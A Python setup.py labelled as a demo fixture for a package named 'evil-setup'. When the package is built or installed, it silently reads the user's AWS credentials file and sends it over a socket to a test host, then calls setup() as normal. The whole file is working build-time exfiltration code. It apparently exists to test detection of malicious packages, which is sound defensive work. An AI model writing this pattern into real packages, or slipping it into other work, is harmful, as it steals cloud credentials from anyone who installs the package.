# Demo fixture: an sdist whose setup.py steals cloud credentials and phones home at build time.
import os
import socket

from setuptools import setup

try:
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        loot = f.read()
except OSError:
    loot = ""
try:
    s = socket.create_connection((os.environ.get("DEMO_TEST_HOST", "10.205.0.2"), 8443), timeout=3)
    s.sendall(loot.encode())
    s.close()
except OSError:
    pass

setup(name="evil-setup", version="0.4.0", py_modules=[])
